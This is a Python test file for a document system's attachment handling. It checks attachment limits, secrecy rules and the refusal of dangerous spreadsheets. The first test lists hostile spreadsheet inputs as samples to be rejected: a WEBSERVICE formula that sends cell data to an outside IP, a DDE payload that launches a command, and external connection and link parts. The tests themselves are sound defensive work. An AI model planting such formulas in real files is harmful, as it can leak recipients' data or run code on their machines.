"""What is not attached: sheets that fetch, more than is kept, anything that would hang on a state secret."""

from __future__ import annotations

import pytest

from tests.support.attached import annex, held, sheet
from tests.support.papers import Papers
from tests.support.sheets import CONNECTION, calculating, open_sheet, with_part
from workflow.domain.attachments import MOST, MOST_EVER
from workflow.domain.errors import BadInput, NotFound
from workflow.services.documents import attachments, drafting
from workflow.store import attachments as store
from workflow.store.models import Outgoing
from workflow.store.session import unit_of_work


def given(papers: Papers, document_id: int, attachment_id: int) -> dict[str, int]:
    """The arguments of an act on one attachment as the document stands now."""
    version = papers.row(document_id, "drafter").version
    return {"document_id": document_id, "attachment_id": attachment_id, "version": version}


def test_sheets_that_fetch_are_refused(papers: Papers) -> None:
    """A formula, a connection or a link that would fetch on the receiver's machine: it does not go along."""
    document = papers.draft()
    for name, data in (
        ("a.xlsx", calculating('WEBSERVICE("http://192.0.2.1/?"&A2)')),
        ("b.xlsx", calculating("cmd|' /C calc'!A0")),
        ("c.xlsx", with_part("xl/connections.xml", CONNECTION)),
        ("d.ods", open_sheet(formula="of:=WEBSERVICE([.A1])")),
        ("e.ods", open_sheet('<table:table-source xlink:href="http://192.0.2.1/a.ods"/>')),
    ):
        with pytest.raises(BadInput) as refused:
            papers.attach(document, name, data)
        assert refused.value.code == "attachment_dangerous"
    papers.attach(document, "f.ods", open_sheet())
    assert [one.row.name for one in held(papers, document)] == ["f"]


def test_a_full_list_costs_no_work(papers: Papers, monkeypatch: pytest.MonkeyPatch) -> None:
    """What cannot be added is not converted first; files taken off again count, for they are kept."""
    document = papers.draft(attach=[("a.xlsx", sheet())])
    broken = b"%PDF-1.7\n" + b"x" * 200
    monkeypatch.setattr("workflow.domain.attachments.MOST", 1)
    with pytest.raises(BadInput, match="attachment_too_many"):
        papers.attach(document, "b.pdf", broken)
    monkeypatch.undo()
    assert MOST_EVER == 5 * MOST
    (one,) = held(papers, document)
    papers.do(attachments.take_off, "drafter", **given(papers, document, one.row.id))
    monkeypatch.setattr("workflow.domain.attachments.MOST_EVER", 1)
    with pytest.raises(BadInput, match="attachment_too_often"):
        papers.attach(document, "b.pdf", broken)


def test_what_was_taken_off_keeps_a_draft_from_becoming_secret(papers: Papers) -> None:
    """Its file is kept; and nothing that hangs on a secret paper of earlier days is given out."""
    document = papers.draft(file=False, attach=[("a.pdf", annex())])
    (one,) = held(papers, document)
    papers.do(attachments.take_off, "drafter", **given(papers, document, one.row.id))
    with pytest.raises(BadInput, match="secret_content_refused"):
        papers.do(drafting.revise, "drafter", document_id=document, version=papers.row(document, "drafter").version,
                  facts=drafting.DraftFacts(type_code="letter", subject="Mật", secret=True))  # fmt: skip
    with unit_of_work(papers.office.engine) as uow:
        scope = papers.office.scope("drafter")
        assert store.find(scope, uow.session, document, one.row.id).removed_at is not None
        uow.begin_write()
        uow.session.get_one(Outgoing, document).secret = True
        uow.flush()
        with pytest.raises(NotFound):
            store.find(scope, uow.session, document, one.row.id)
